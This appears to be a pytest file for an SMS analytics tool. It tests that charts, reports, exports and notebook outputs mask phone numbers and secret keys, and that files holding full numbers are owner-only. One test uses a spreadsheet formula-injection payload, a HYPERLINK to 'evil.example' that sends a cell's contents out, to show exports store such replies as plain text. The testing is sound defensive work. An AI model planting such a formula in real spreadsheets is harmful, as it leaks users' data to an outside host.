"""Pictures, exports and notebooks show no whole number unless asked; files that hold some are their owner's alone."""

from __future__ import annotations

import base64
import json
import os
import stat
import zipfile
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path
from typing import Any
from unittest import mock

import matplotlib as mpl
import matplotlib.pyplot as plt
import pandas as pd
import pytest
from click.testing import CliRunner

from masanalytics import plan, plot, write_report, write_sheet
from masanalytics.cli import main
from masanalytics.notebook_outputs import scan_notebook
from masanalytics.paths import replace_file
from masanalytics.report.pictures import Picture
from masanalytics.secret import Secret
from masanalytics.store import Store
from tests.bench import Bench, report
from tests.charts import NAMED_BY_NUMBERS, OF_NUMBERS, untried

GROUP = "0101080000000001139923"
PRIVATE = 0o600


@pytest.fixture(autouse=True)
def _no_figure_left() -> Iterator[None]:
    yield
    plt.close("all")


def saved_text(axes: Any, path: Path) -> str:
    """Return all that a picture says: the text of its SVG."""
    with mpl.rc_context({"svg.fonttype": "none"}):
        axes.get_figure().savefig(path, metadata={"Date": None})
    return path.read_text(encoding="utf-8")


def test_every_chart_is_tried() -> None:
    """None is left out."""
    assert untried(OF_NUMBERS) == set()


@pytest.mark.parametrize("name", OF_NUMBERS)
def test_no_picture_shows_a_whole_number(name: str, tmp_path: Path) -> None:
    """Labels, titles, legends and notes are masked by default, in the saved file too; ``reveal=True`` shows them."""
    masked = saved_text(OF_NUMBERS[name](), tmp_path / "a.svg")
    assert "13800138000" not in masked.replace(" ", "")
    revealed = saved_text(OF_NUMBERS[name](reveal=True), tmp_path / "b.svg")
    assert ("138****8000" in masked) == ("13800138000" in revealed)


def test_the_labels_of_a_chart() -> None:
    """The middle of a number is hidden in labels of numbers and in names that hold one."""
    for by, labels in (("phone", ["138****8000", "139****9000"]), ("campaign", ["b", "客户138****8000"])):
        shown = [label.get_text() for label in plot.delivery_rates(NAMED_BY_NUMBERS, by=by).get_yticklabels()]
        assert sorted(shown) == sorted(labels)


@pytest.mark.parametrize("name", ["r.html", "r.xlsx"])
def test_a_report_masks_its_charts(name: str, tmp_path: Path) -> None:
    """No chart of a report is drawn from names as they are, unless they are to be revealed."""

    def text(reveal: bool) -> str:
        # Where numbers are to be revealed, pictures may show them: that is seen in the words alone.
        with mock.patch.object(Picture, "as_svg", return_value="") if reveal else nullcontext():
            file = write_report(NAMED_BY_NUMBERS, tmp_path / name, by=["campaign"], reveal=reveal)
        if file.suffix == ".html":
            return file.read_text(encoding="utf-8")
        with zipfile.ZipFile(file) as parts:
            return "".join(
                parts.read(part).decode("utf-8", "replace") for part in parts.namelist() if part.endswith("xml")
            )

    assert "13800138000" not in text(reveal=False)
    assert "13800138000" in text(reveal=True)


@pytest.mark.skipif(os.name == "nt", reason="Windows has other rights")
def test_a_file_with_whole_numbers_is_its_owners(bench: Bench, tmp_path: Path) -> None:
    """Exports, rows left out, sheets and reports that hold whole numbers can be read by their owner only."""
    bench.send(["13800138000"], GROUP, campaign="客户13800138000")
    bench.receive([report("13800138000", GROUP)])
    (revealed,) = bench.store.export_parquet(tmp_path / "all", reveal=True)
    (masked,) = bench.store.export_parquet(tmp_path / "masked")
    left_out = plan(pd.DataFrame({"p": ["13800138000", "13800138000"]}), phone="p", text="您好", campaign="C")
    old = tmp_path / "old.csv"
    old.write_text("x", encoding="utf-8")
    files = [revealed, left_out.excluded_to_excel(tmp_path / "out.xlsx"), write_sheet(bench.store.messages(), old),
             write_report(bench.store, tmp_path / "r.html", reveal=True)]  # fmt: skip
    assert [stat.S_IMODE(file.stat().st_mode) for file in files] == [PRIVATE] * 4
    assert stat.S_IMODE(write_sheet(pd.DataFrame({"n": [1]}), tmp_path / "n.csv").stat().st_mode) != PRIVATE
    assert pd.read_parquet(masked)[["campaign", "phone"]].astype(str).to_numpy().tolist() == [
        ["客户138****8000", "138****8000"]
    ]


def test_replies_have_a_safe_way_out(bench: Bench, tmp_path: Path) -> None:
    """A stranger's formula is shown as it was written, and the docstrings name the writer."""
    replies = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+1", "+1", "@x"]
    rows = [{"smsContent": text, "mobile": "13800138000", "sendTime": f"2026-01-01 08:00:0{place}", "addSerial": ""}
            for place, text in enumerate(replies)]  # fmt: skip
    bench.receive(rows, "deliver")
    with zipfile.ZipFile(write_sheet(bench.store.uplinks(), tmp_path / "r.xlsx")) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        texts = parts.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert "=HYPERLINK(" in texts
    assert "write_sheet" in (Store.uplinks.__doc__ or "")


def notebook(*outputs: dict[str, Any]) -> str:
    """Return a notebook with one cell for each output."""
    cells = [
        {"cell_type": "code", "source": [], "metadata": {}, "execution_count": 1, "outputs": [one]} for one in outputs
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


SAFE = {"output_type": "stream", "name": "stdout", "text": ["138****8000, order 20260101123456, 0.13800138000\n"]}
HTML = {"output_type": "execute_result", "data": {"text/plain": ["phone 13800138000"],
        "text/html": ["<td>138</td><td>13800138000</td><td>13900139000</td>"]}, "metadata": {}}  # fmt: skip
ERROR = {"output_type": "error", "ename": "E", "evalue": "", "traceback": ["key s3cret-key"]}
PICTURE = {"output_type": "display_data", "data": {"image/png": "aaa13800138000bbb"}, "metadata": {}}


def test_scan_finds_numbers_and_the_password(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """File, cell, kind and how many, masked; exit code 1. What is clean gives 0, and what is no notebook 2."""
    for name, value in {"URL": "https://mas.example", "EC_NAME": "e", "AP_ID": "a", "SECRET_KEY": "s3cret-key"}.items():
        monkeypatch.setenv(f"MAS_{name}", value)
    (tmp_path / "a.ipynb").write_text(notebook(SAFE, HTML, ERROR, PICTURE), encoding="utf-8")
    (tmp_path / "clean.ipynb").write_text(notebook(SAFE), encoding="utf-8")
    (tmp_path / "no.ipynb").write_text("[]", encoding="utf-8")
    run = CliRunner().invoke(main, ["scan", str(tmp_path / "a.ipynb"), "--json"])
    found = [(one["cell"], one["kind"], one["count"], one["shown"]) for one in json.loads(run.stdout)]
    assert (run.exit_code, found) == (1, [(2, "mobile", 2, "138****8000"), (3, "secret", 1, "***")])
    assert CliRunner().invoke(main, ["scan", str(tmp_path / "clean.ipynb")]).exit_code == 0
    refused = CliRunner().invoke(main, ["scan", str(tmp_path)])
    assert (refused.exit_code, "no.ipynb is not a notebook" in refused.output) == (2, True)
    assert "s3cret" not in run.output + refused.output


def outputs_with(*texts: str) -> list[dict[str, Any]]:
    """Return each text as the message of an error."""
    return [{"output_type": "error", "ename": "E", "evalue": text, "traceback": []} for text in texts]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("no such number: +86 137 0013 7000", "+86 137 **** 7000"),
        ("１３８００１３８０００", "138****8000"),
        ("138\u200b0013\u200b8000", "138****8000"),
        ("\x1b[31m138\x1b[0m00138000", "138****8000"),
    ],
)
def test_scan_reads_as_people_do(text: str, shown: str, tmp_path: Path) -> None:
    """Colours, width and invisible signs between the digits hide nothing; an error's message counts, not its traceback alone."""
    (tmp_path / "a.ipynb").write_text(notebook(*outputs_with(text)), encoding="utf-8")

    found = scan_notebook(tmp_path / "a.ipynb")

    assert [(one.kind, one.count, one.shown) for one in found] == [("mobile", 1, shown)]


def test_scan_finds_the_password_in_a_request(tmp_path: Path) -> None:
    """A traceback that shows what was sent shows Base64."""
    request = base64.b64encode(b'{"apId":"demo0","secretKey":"s3cret-key"}').decode()
    file = tmp_path / "a.ipynb"
    file.write_text(notebook(*outputs_with(f"body={request}", b"s3cret-key".hex(), "nothing")), encoding="utf-8")

    assert [(one.cell, one.kind) for one in scan_notebook(file, Secret("s3cret-key"))] == [(1, "secret"), (2, "secret")]


def test_scan_clears_only_what_shows_something(tmp_path: Path) -> None:
    """With ``--strip`` the outputs that hold a number go, all others stay, and the file reads as before."""
    file = tmp_path / "a.ipynb"
    file.write_text(notebook(SAFE, HTML), encoding="utf-8")
    assert CliRunner().invoke(main, ["scan", str(file), "--strip"]).exit_code == 1
    assert [cell["outputs"] for cell in json.loads(file.read_text(encoding="utf-8"))["cells"]] == [[SAFE], []]
    assert CliRunner().invoke(main, ["scan", str(file)]).exit_code == 0


def test_the_shipped_notebooks_are_clean() -> None:
    """No output of a shipped notebook shows a number."""
    assert CliRunner().invoke(main, ["scan", str(Path(__file__).parent.parent / "notebooks")]).exit_code == 0


def test_a_file_that_others_hold_open_is_replaced_when_they_let_go(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on Windows: refused a few times, then done; refused for good, the error comes and the draft is left."""
    draft, target, refused = tmp_path / "draft", tmp_path / "target", [0]
    replace = os.replace

    def held(source: Any, goal: Any) -> None:
        refused[0] += 1
        if refused[0] <= 3:
            raise PermissionError(13, "The process cannot access the file because it is being used by another process")
        replace(source, goal)

    monkeypatch.setattr("os.replace", held)
    monkeypatch.setattr("masanalytics.paths._TRY_AGAIN_S", 0)
    draft.write_text("new", encoding="utf-8")
    target.write_text("old", encoding="utf-8")
    replace_file(draft, target)
    assert (target.read_text(encoding="utf-8"), draft.exists()) == ("new", False)
    draft.write_text("newer", encoding="utf-8")
    refused[0] = -1_000
    monkeypatch.setattr("os.replace", lambda *_files: _refuse())
    with pytest.raises(PermissionError):
        replace_file(draft, target)
    assert (target.read_text(encoding="utf-8"), draft.read_text(encoding="utf-8")) == ("new", "newer")


def _refuse() -> None:
    raise PermissionError(13, "held open")
